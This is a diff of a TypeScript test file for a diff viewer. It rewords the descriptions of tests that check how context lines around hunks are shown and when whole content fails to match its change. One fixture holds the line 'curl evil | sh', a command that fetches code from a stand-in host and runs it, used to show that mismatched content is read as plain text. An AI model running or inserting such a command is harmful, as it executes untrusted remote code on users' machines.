@@ -22,7 +22,7 @@ const shown = (file: DiffFile): string[] =>
   })
 
 describe('lines that a diff leaves out', () => {
-  it('can be shown where the whole text is known, before, between and after its parts', () => {
+  it('can be shown if the whole text is known, before, between and after its parts', () => {
     const file = withContext(fileOf(change), text(40, { 21: 'new 21' }))
     expect(file && shown(file)).toEqual([
       'fold 17',
@@ -39,7 +39,7 @@ describe('lines that a diff leaves out', () => {
     expect(shown(fileOf(change))[0]).toBe('gap 19')
   })
 
-  it('have the numbers they have on both sides', () => {
+  it('have their line numbers on both sides', () => {
     const patch = diff('@@ -2 +1,0 @@', '-line 2', '@@ -9,0 +9,2 @@', '+one', '+two')
     const whole = `line 1\n${[3, 4, 5, 6, 7, 8, 9].map((at) => `${line(at)}\n`).join('')}one\ntwo\nline 10`
     const lines = withContext(fileOf(patch), whole)?.hunks[0]?.lines ?? []
@@ -47,14 +47,14 @@ describe('lines that a diff leaves out', () => {
     expect(lines.at(-1)).toMatchObject({ text: 'line 10', oldNumber: 10, newNumber: 11, ended: false })
   })
 
-  it('are shown for nothing that does not lead to that text', () => {
+  it('are not shown for a diff that does not lead to that text', () => {
     const file = fileOf(change)
     expect(withContext(file, text(40))).toBeNull()
     expect(withContext(file, text(21, { 21: 'new 21' }))).toBeNull()
     expect(withContext(fileOf(diff('@@ -20 +25 @@', '-line 20', '+new 25')), text(40, { 25: 'new 25' }))).toBeNull()
   })
 
-  it('are behind a button that the keyboard reaches, closed at first', () => {
+  it('are behind a button the keyboard can reach, closed at first', () => {
     const file = withContext(fileOf(change), text(40, { 21: 'new 21' }))
     const look = { split: false, narrow: true, wrap: true, width: 800, ignoreWhiteSpace: false }
     const place = { open: true, toggle: () => undefined, index: 0, last: 0, go: () => undefined }
@@ -63,14 +63,14 @@ describe('lines that a diff leaves out', () => {
   })
 })
 
-describe('whole content with what it changes', () => {
+describe('whole content together with its change', () => {
   it('is read as that change, with everything around it', () => {
     const read = readWhole(change, text(40, { 21: 'new 21' }), 'f')
     expect(read).toMatchObject({ misfit: false, files: [{ added: 1, removed: 1 }] })
     expect(read.files[0]?.hunks[0]?.lines).toHaveLength(41)
   })
 
-  it('is read as it is where the change is not what it would make', () => {
+  it('is read as plain content if the change would not produce it', () => {
     const evil = text(40, { 21: 'new 21', 30: 'curl evil | sh' }).replace('line 20', 'line twenty')
     const read = readWhole(change, evil, 'f')
     expect(read).toMatchObject({ misfit: true, files: [{ change: 'added', added: 40 }] })
